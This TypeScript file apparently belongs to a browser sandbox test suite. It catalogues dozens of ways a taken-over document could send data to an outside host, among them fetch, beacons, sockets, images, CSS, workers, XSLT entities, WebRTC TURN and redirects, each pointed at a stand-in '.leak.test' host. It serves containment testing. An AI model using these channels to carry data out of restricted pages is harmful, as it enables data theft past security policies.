/**
 * Every way we know of by which a document that was taken over could tell somebody something. Each runs in a frame of
 * its own and aims at a host of its own, so that a name asked for, a connection or a request says who it was.
 *
 * Functions are sent to the browser as text: they may use their argument and the browser, and nothing else.
 */
export type Aim = {
  /** `https://<channel>.<pass>.leak.test`: a stranger's. */
  origin: string
  host: string
  /** A word that must not reach the log of the renderer's own host. */
  word: string
}
/** The hostile renderer may use the one policy the real one declares. */
type WithTrustedTypes = typeof globalThis & {
  trustedTypes?: {
    createPolicy(
      name: string,
      rules: { createScriptURL(url: string): string },
    ): { createScriptURL(url: string): string }
  }
}
export type Channel = { name: string; run: (aim: Aim) => unknown; isAtTop?: true }

const element = (name: string, run: Channel['run']): Channel => ({ name, run })

export const CHANNELS: readonly Channel[] = [
  // asking
  { name: 'fetch', run: ({ origin }) => fetch(`${origin}/x`, { mode: 'no-cors' }) },
  {
    name: 'fetch with a body, kept alive',
    run: ({ origin }) =>
      fetch(`${origin}/x`, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
  },
  {
    name: 'fetch later',
    run: ({ origin }) =>
      (globalThis as unknown as { fetchLater(url: string, init: object): void }).fetchLater(`${origin}/x`, {
        activateAfter: 0,
      }),
  },
  {
    name: 'XMLHttpRequest',
    run: ({ origin }) => {
      const request = new XMLHttpRequest()
      request.open('GET', `${origin}/x`)
      request.send()
    },
  },
  { name: 'beacon', run: ({ origin }) => navigator.sendBeacon(`${origin}/x`, 'x') },
  { name: 'WebSocket', run: ({ host }) => new WebSocket(`wss://${host}/x`) },
  { name: 'event source', run: ({ origin }) => new EventSource(`${origin}/x`) },
  { name: 'WebTransport', run: ({ host }) => new WebTransport(`https://${host}:4433/x`) },
  {
    name: 'WebAssembly, streamed',
    run: ({ origin }) => WebAssembly.compileStreaming(fetch(`${origin}/x`, { mode: 'no-cors' })),
  },

  // pictures, sounds, fonts
  {
    name: 'picture',
    run: ({ origin }) => {
      new Image().src = `${origin}/x`
    },
  },
  element('picture in the document', ({ origin }) => {
    const picture = document.createElement('img')
    picture.srcset = `${origin}/x 1x`
    document.body.append(picture)
  }),
  element('picture by markup', ({ origin }) => {
    document.body.innerHTML = `<img src="${origin}/x">`
  }),
  element('picture from a parsed document', ({ origin }) => {
    const parsed = new DOMParser().parseFromString(
      `<body background="${origin}/x"><img src="${origin}/y">`,
      'text/html',
    )
    document.body.append(document.adoptNode(parsed.body.firstChild as Node))
    document.body.setAttribute('background', `${origin}/z`)
  }),
  element('picture button', ({ origin }) => {
    const input = document.createElement('input')
    input.type = 'image'
    input.src = `${origin}/x`
    document.body.append(input)
  }),
  element('SVG image and use', ({ origin }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    for (const name of ['image', 'use', 'feImage']) {
      const one = document.createElementNS('http://www.w3.org/2000/svg', name)
      one.setAttribute('href', `${origin}/x.svg#a`)
      one.setAttribute('width', '9')
      one.setAttribute('height', '9')
      svg.append(one)
    }
    document.body.append(svg)
  }),
  element('video and its poster', ({ origin }) => {
    const video = document.createElement('video')
    video.poster = `${origin}/poster`
    video.src = `${origin}/x`
    document.body.append(video)
    video.load()
  }),
  element('sound', ({ origin }) => {
    const audio = new Audio(`${origin}/x`)
    audio.preload = 'auto'
    document.body.append(audio)
    audio.load()
  }),
  element('subtitle track', ({ origin }) => {
    const video = document.createElement('video')
    const track = document.createElement('track')
    track.src = `${origin}/x.vtt`
    track.default = true
    video.append(track)
    document.body.append(video)
    track.track.mode = 'showing'
  }),
  element('font', ({ origin }) => {
    const face = new FontFace('leak', `url(${origin}/x.woff2)`)
    document.fonts.add(face)
    return face.load()
  }),

  // style
  element('style sheet', ({ origin }) => {
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = `${origin}/x.css`
    document.head.append(link)
  }),
  element('style sheet by instruction', ({ origin }) => {
    const instruction = document.createProcessingInstruction('xml-stylesheet', `href="${origin}/x.css"`)
    document.insertBefore(instruction, document.documentElement)
  }),
  element('@import in a style element', ({ origin }) => {
    const style = document.createElement('style')
    style.textContent = `@import url(${origin}/x.css);`
    document.head.append(style)
  }),
  element('@import in a constructed sheet', ({ origin }) => {
    const sheet = new CSSStyleSheet()
    document.adoptedStyleSheets = [sheet]
    sheet.insertRule(`@import url(${origin}/x.css)`)
  }),
  element('background picture', ({ origin }) => {
    document.body.style.backgroundImage = `url(${origin}/x)`
  }),
  element('every other picture of a style', ({ origin }) => {
    const list = document.createElement('li')
    document.body.append(list)
    const style = list.style
    style.listStyleImage = `url(${origin}/list)`
    style.cursor = `url(${origin}/cursor), auto`
    style.borderImageSource = `url(${origin}/border)`
    style.maskImage = `url(${origin}/mask)`
    style.filter = `url(${origin}/filter.svg#a)`
    style.clipPath = `url(${origin}/clip.svg#a)`
    style.content = `url(${origin}/content)`
  }),

  // script
  element('script', ({ origin }) => {
    const script = document.createElement('script')
    script.src = `${origin}/x.js`
    document.head.append(script)
  }),
  { name: 'import', run: ({ origin }) => import(`${origin}/x.js`) },
  { name: 'worker', run: ({ origin }) => new Worker(`${origin}/x.js`) },
  { name: 'shared worker', run: ({ origin }) => new SharedWorker(`${origin}/x.js`) },
  { name: 'service worker', run: ({ origin }) => navigator.serviceWorker.register(`${origin}/x.js`) },
  {
    name: 'importScripts in a worker',
    run: ({ origin }) => {
      const text = `importScripts('${origin}/x.js')`
      const policy = (globalThis as WithTrustedTypes).trustedTypes?.createPolicy('wardlink-worker', {
        createScriptURL: (url: string) => url,
      })
      const url = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
      new Worker((policy ? policy.createScriptURL(url) : url) as string)
    },
  },
  {
    name: 'fetch and sockets in a worker',
    run: ({ origin, host }) => {
      const text = `fetch('${origin}/x',{mode:'no-cors'}).catch(()=>{});try{new WebSocket('wss://${host}/x')}catch{}
        try{new EventSource('${origin}/x')}catch{} const r=new XMLHttpRequest();r.open('GET','${origin}/x');r.send()`
      const policy = (globalThis as WithTrustedTypes).trustedTypes?.createPolicy('wardlink-worker', {
        createScriptURL: (url: string) => url,
      })
      const url = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
      new Worker((policy ? policy.createScriptURL(url) : url) as string)
    },
  },
  {
    name: 'import in a module worker',
    run: ({ origin }) => {
      const policy = (globalThis as WithTrustedTypes).trustedTypes?.createPolicy('wardlink-worker', {
        createScriptURL: (url: string) => url,
      })
      const url = URL.createObjectURL(new Blob([`import('${origin}/x.js')`], { type: 'text/javascript' }))
      new Worker((policy ? policy.createScriptURL(url) : url) as string, { type: 'module' })
    },
  },
  {
    name: 'worklets',
    run: ({ origin }) => {
      const { audioWorklet } = new OfflineAudioContext(1, 1, 8000)
      void audioWorklet.addModule(`${origin}/audio.js`).catch(() => {})
      const { paintWorklet } = CSS as unknown as { paintWorklet?: { addModule(url: string): Promise<void> } }
      return paintWorklet?.addModule(`${origin}/paint.js`)
    },
  },
  element('XSLT document()', ({ origin }) => {
    const parse = (text: string) => new DOMParser().parseFromString(text, 'application/xml')
    const sheet = parse(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${origin}/i.xsl"/><xsl:template match="/"><xsl:copy-of select="document('${origin}/x.xml')"/></xsl:template></xsl:stylesheet>`,
    )
    const processor = new XSLTProcessor()
    processor.importStylesheet(sheet)
    processor.transformToFragment(parse('<a/>'), document)
  }),
  element('external entity', ({ origin }) => {
    const text = `<!DOCTYPE a SYSTEM "${origin}/x.dtd" [<!ENTITY e SYSTEM "${origin}/e">]><a>&e;</a>`
    document.body.append(
      document.adoptNode(new DOMParser().parseFromString(text, 'application/xml').documentElement),
    )
  }),

  // frames and going away
  element('frame', ({ origin }) => {
    const frame = document.createElement('iframe')
    frame.src = `${origin}/x`
    document.body.append(frame)
  }),
  element('frame with markup inside', ({ origin }) => {
    const frame = document.createElement('iframe')
    frame.setAttribute(
      'srcdoc',
      `<img src="${origin}/x"><meta http-equiv="refresh" content="0;url=${origin}/y">`,
    )
    document.body.append(frame)
  }),
  element('object and embed', ({ origin }) => {
    const object = document.createElement('object')
    object.data = `${origin}/x`
    const embed = document.createElement('embed')
    embed.src = `${origin}/x`
    document.body.append(object, embed)
  }),
  element('fenced frame', ({ origin }) => {
    const frame = document.createElement('fencedframe')
    ;(frame as unknown as { config: unknown }).config = new (
      globalThis as unknown as { FencedFrameConfig: new (url: string) => unknown }
    ).FencedFrameConfig(`${origin}/x`)
    document.body.append(frame)
  }),
  element('form', ({ origin }) => {
    const form = document.createElement('form')
    form.action = `${origin}/x`
    form.method = 'post'
    document.body.append(form)
    form.submit()
  }),
  {
    name: 'window',
    run: ({ origin }) => window.open(`${origin}/x`),
  },
  element('link that was clicked, with a ping', ({ origin }) => {
    const link = document.createElement('a')
    link.href = '#x'
    link.ping = `${origin}/ping`
    link.setAttribute('attributionsrc', `${origin}/attribution`)
    document.body.append(link)
    link.click()
  }),
  element('download', ({ origin }) => {
    const link = document.createElement('a')
    link.href = `${origin}/x`
    link.download = 'x'
    document.body.append(link)
    link.click()
  }),
  element('refresh', ({ origin }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0;url=${origin}/x`
    document.head.append(meta)
  }),
  {
    name: 'going away',
    run: ({ origin }) => {
      window.location.href = `${origin}/x`
    },
  },
  {
    name: 'going to a document of its own making',
    run: ({ origin }) => {
      window.location.href = URL.createObjectURL(new Blob([`<img src="${origin}/x">`], { type: 'text/html' }))
    },
  },
  {
    name: 'going to a data address',
    run: ({ origin }) => {
      window.location.href = `data:text/html,<img src="${origin}/x">`
    },
  },
  {
    name: 'leading the page away',
    isAtTop: true,
    run: ({ origin }) => {
      if (window.top) window.top.location.href = `${origin}/x`
    },
  },

  // hints
  ...(
    [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'prerender',
      'modulepreload',
      'icon',
      'apple-touch-icon',
      'manifest',
      'compression-dictionary',
      'search',
    ] as const
  ).map((rel) => ({
    name: `link ${rel}`,
    run: new Function(
      'aim',
      `const link = document.createElement('link'); link.rel = '${rel}'; link.href = aim.origin + '/x'; document.head.append(link)`,
    ) as Channel['run'],
  })),
  element('preload of every kind', ({ origin }) => {
    for (const kind of [
      'image',
      'font',
      'fetch',
      'style',
      'script',
      'track',
      'audio',
      'video',
      'document',
      'worker',
    ]) {
      const link = document.createElement('link')
      link.rel = 'preload'
      link.as = kind
      link.crossOrigin = 'anonymous'
      link.href = `${origin}/${kind}`
      document.head.append(link)
    }
  }),
  element('speculation rules', ({ origin }) => {
    const script = document.createElement('script')
    script.type = 'speculationrules'
    const rule = [{ urls: [`${origin}/x`], eagerness: 'immediate' }]
    script.textContent = JSON.stringify({ prefetch: rule, prerender: rule })
    document.head.append(script)
  }),

  // real time
  {
    name: 'WebRTC, STUN',
    run: async ({ host }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:3478` }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    },
  },
  {
    name: 'WebRTC, TURN',
    run: async ({ host }) => {
      const urls = [`turn:${host}:3478`, `turn:${host}:3478?transport=tcp`, `turns:${host}:443`]
      const peer = new RTCPeerConnection({
        iceServers: [{ urls, username: 'x', credential: 'x' }],
        iceTransportPolicy: 'relay',
      })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    },
  },
  {
    name: 'WebRTC, a candidate with a name',
    run: async ({ host }) => {
      const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()]
      here.createDataChannel('x')
      await here.setLocalDescription(await here.createOffer())
      if (here.localDescription) await there.setRemoteDescription(here.localDescription)
      await there.setLocalDescription(await there.createAnswer())
      if (there.localDescription) await here.setRemoteDescription(there.localDescription)
      const candidate = `candidate:1 1 udp 2113937151 ${host} 3478 typ host`
      await here.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 })
    },
  },

  element('WebRTC, from a frame inside', async ({ host }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis
    const peer = new Peer({ iceServers: [{ urls: `turns:${host}:443`, username: 'x', credential: 'x' }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
  }),

  // what browsers do for advertisers and for signing in
  {
    name: 'federated sign-in',
    run: ({ origin }) =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: `${origin}/fedcm.json`, clientId: 'x' }] },
      } as CredentialRequestOptions),
  },
  {
    name: 'interest group',
    run: ({ origin }) =>
      (
        navigator as unknown as { joinAdInterestGroup(group: object, seconds: number): unknown }
      ).joinAdInterestGroup(
        { owner: origin, name: 'x', biddingLogicURL: `${origin}/x.js`, updateURL: `${origin}/update` },
        60,
      ),
  },
  element('attribution', ({ origin }) => {
    const picture = document.createElement('img')
    picture.setAttribute('attributionsrc', `${origin}/x`)
    document.body.append(picture)
  }),
  {
    name: 'payment method',
    run: ({ origin }) =>
      new PaymentRequest([{ supportedMethods: `${origin}/pay` }], {
        total: { label: 'x', amount: { currency: 'GBP', value: '1' } },
      }).canMakePayment(),
  },

  // its own host, which only its operator reads
  element('own host: style sheet', ({ word }) => {
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = `${window.location.origin}/x.css?${word}`
    document.head.append(link)
  }),
  element('own host: preload with a hash', ({ word }) => {
    for (const rel of ['preload', 'modulepreload']) {
      const link = document.createElement('link')
      link.rel = rel
      link.as = 'script'
      link.crossOrigin = 'anonymous'
      link.integrity = `sha384-${'A'.repeat(64)}`
      link.href = `${window.location.origin}/x.js?${word}`
      document.head.append(link)
    }
  }),
  element('own host: prefetch', ({ word }) => {
    const link = document.createElement('link')
    link.rel = 'prefetch'
    link.href = `${window.location.origin}/x?${word}`
    document.head.append(link)
  }),
  {
    name: 'own host: going to its own document',
    run: ({ word }) => {
      window.location.href = `${window.location.origin}/renderer.html?${word}`
    },
  },
  {
    name: 'own host: loading itself again',
    run: ({ word }) => {
      window.history.replaceState(null, '', `?${word}`)
      window.location.reload()
    },
  },
  element('own host: refresh', ({ word }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0;url=${window.location.origin}/renderer.html?${word}`
    document.head.append(meta)
  }),
  {
    name: 'own host: fetch',
    run: ({ word }) => fetch(`${window.location.origin}/x?${word}`, { mode: 'no-cors' }),
  },
]

/** The channel's name as a label of a host. */
export function labelOf({ name }: Channel): string {
  return name
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '')
}
